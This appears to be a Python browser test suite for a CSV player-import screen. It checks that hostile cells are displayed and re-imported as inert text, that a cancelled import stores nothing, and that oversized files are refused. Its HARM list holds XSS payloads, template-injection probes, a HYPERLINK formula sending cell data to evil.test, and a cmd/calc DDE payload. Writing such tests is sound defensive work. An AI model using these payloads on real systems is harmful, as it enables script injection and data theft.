"""Hostile or huge tables: displayed and imported as text, and cancellable."""

import json
import random

import pytest

from tests.e2e.rig.desk import tables, wait_screen, wait_until
from tests.e2e.rig.patience import time_factor
from tests.e2e.rig.probe import command_requests
from tests.e2e.screens.house import choose_file, go_to, stop_at_once, wipe

HARM = (
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '"><svg onload=window.__pwned=1>',
    "</tbody></table><form data-command=delete_stream><button autofocus>x",
    '<a href="javascript:window.__pwned=1">x</a>',
    "{{ 7*7 }}{% raw %}${7*7}",
    '=HYPERLINK("http://evil.test/?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "'=1",
    "''=1",
    "&lt;b&gt; &amp; &#60;",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁣󠁡󠁴󠁿 👍🏽",
    "שלום עולם",
    "مرحبا بالعالم",
    "e\u0301\u0323" * 20,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳",
    "constructor",
    "__proto__",
    "null",
    "NaN",
    "None",
    "x" * 120,
)
ROWS = 2500
# Note how long the page was deaf, and what the line of long work showed.
LISTEN = """
() => {
  const seen = (globalThis.seen = { gap: 0, shown: 0, texts: [], values: [], dialogs: 0 });
  let last = performance.now();
  (function tick() {
    const now = performance.now();
    seen.gap = Math.max(seen.gap, now - last);
    last = now;
    setTimeout(tick);
  })();
  const box = document.getElementById("work");
  new MutationObserver(() => {
    if (box.hidden) return;
    seen.shown += 1;
    seen.texts.push(box.querySelector("p").textContent);
    const bar = box.querySelector("progress");
    seen.values.push(bar.value / bar.max);
  }).observe(box, { attributes: true, childList: true, subtree: true });
}
"""


def quote_cell(cell):
    return '"' + cell.replace('"', '""') + '"'


def unquote_cell(text):
    """Return a cell without the quote that guards a formula in tables of other programs."""
    return text[1:] if text.startswith(("'=", "''=")) else text


def hostile_table(rows=ROWS):
    """Return a table of many traits: each in names, clubs and numbers, and some numbers twice."""
    dice = random.Random(7)
    lines = ["Name;Club;List;Number;Rating"]
    for k in range(rows):
        name = f"{HARM[k % len(HARM)][:110]} {k}"
        club = HARM[dice.randrange(len(HARM))] if k % 3 else ""
        number = str(k if k % 50 else 25)  # a number that somebody has already
        lines.append(
            ";".join([quote_cell(name), quote_cell(club), "BARRUF", number, str(k % 2000)])
        )
    lines[500] = quote_cell("m" * 1_000_000) + ";big;BARRUF;999999;1"
    return "\r\n".join(lines).encode("utf-8-sig")


def read_table(page, data):
    go_to(page, "/players/import", "form[data-command=read_players_file]")
    choose_file(page, "form[data-command=read_players_file] [name=file]", data, "table.csv")
    page.evaluate(LISTEN)
    page.click("#next")


def stored_people(page):
    """Return the content of all cards in the store."""
    cards = [json.loads(row["line"])["card"] for row in tables(page)["cards"]]
    return sorted(
        (card["name"], card["club"], json.dumps(card["lists"], sort_keys=True)) for card in cards
    )


@pytest.mark.slow
def test_hostile_table_is_displayed_imported_and_returned_equal_as_text(page, server, capsys):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    read_table(page, hostile_table())
    wait_screen(page, "table.preview", 120)
    seen = page.evaluate("seen")
    assert seen["shown"] > 3, "progress is told"
    assert all(seen["texts"])
    assert seen["values"] == sorted(seen["values"])
    assert tables(page)["events"] == [], "nothing before it was looked at"
    body = page.inner_text("table.preview tbody")
    assert HARM[0] in body
    assert (
        page.query_selector("table.preview img, table.preview script, table.preview svg[onload]")
        is None
    )
    page.evaluate("seen.gap = 0")
    page.click("#next")
    wait_screen(page, "#finder", 120)
    taking = page.evaluate("seen.gap")
    with capsys.disabled():
        print(
            f"\n  {ROWS} rows: the page was deaf for {seen['gap']:.0f} ms at most while they were"
            f" read, {taking:.0f} ms while they were taken in"
        )
    first = stored_people(page)
    assert len(first) > ROWS * 0.9
    assert not any("m" * 200 in name for name, *_ in first)
    assert {f"{unquote_cell(text)[:110]} {k}" for k, text in enumerate(HARM) if k % 50} <= {
        name for name, *_ in first
    }
    go_to(page, "/players", "#finder")
    with page.expect_download(timeout=60_000 * time_factor()) as waiting:
        page.click("#screen form[data-command=export_players] button")
    exported = waiting.value.path().read_bytes()
    wipe(page, server.url)
    read_table(page, exported)
    wait_screen(page, "table.preview", 120)
    page.click("#next")
    wait_screen(page, "#finder", 120)
    assert stored_people(page) == first
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert max(seen["gap"], taking) < 1000 * time_factor()


def test_stopped_import_stores_no_row(page):
    before = tables(page)
    stop_at_once(page)
    read_table(page, hostile_table(10_000))
    wait_until(page, lambda: page.is_visible("#notice"), "what was stopped to be said", 30)
    assert not page.is_visible("#work")
    after = tables(page)
    assert {
        table: after[table] for table in ("events", "cards", "streams", "drafts", "requests")
    } == {table: before[table] for table in ("events", "cards", "streams", "drafts", "requests")}
    assert page.query_selector("#screen table.preview") is None
    go_to(page, "/players/import", "form[data-command=read_players_file]")


def test_file_of_thirty_megabytes_is_refused_before_reading(page, tmp_path):
    big = tmp_path / "big.csv"
    with big.open("wb") as file:
        file.truncate(30_000_000)
    go_to(page, "/players/import", "form[data-command=read_players_file]")
    page.evaluate(
        """() => {
          globalThis.read = 0;
          const { arrayBuffer } = Blob.prototype;
          Blob.prototype.arrayBuffer = function () { read += 1; return arrayBuffer.call(this); };
        }"""
    )
    page.set_input_files("#screen form[data-command=read_players_file] [name=file]", big)
    page.click("#next")
    wait_until(page, lambda: page.query_selector("#toasts .toast"), "the message")
    assert "big.csv" in page.inner_text("#toasts")
    assert page.evaluate("read") == 0
    assert command_requests(page) == []
    choose_file(
        page, "form[data-command=read_players_file] [name=file]", "Name\nSmall", "small.csv"
    )
    page.click("#next")  # and a small one is read right after
    wait_screen(page, "table.preview")
    assert page.evaluate("read") == 1


def test_each_trait_alone_is_text(page):
    for text in HARM:
        go_to(page, "/players/import")
        if page.query_selector("#screen form[data-command=drop_players_file]"):
            page.click("#screen form[data-command=drop_players_file] button")
            wait_screen(page, "#finder")
        read_table(page, f"Name\r\n{quote_cell(text)}\r\n".encode())
        wait_screen(page, "table.preview")
        displayed = page.evaluate(
            "document.querySelector('table.preview tbody .name bdi').textContent"
        )
        assert displayed == unquote_cell(text)
        inside = (
            "document.querySelectorAll('table.preview :is(img, script, a, form, button)').length"
        )
        assert page.evaluate(inside) == 0, text
    assert page.evaluate("window.__pwned") is None
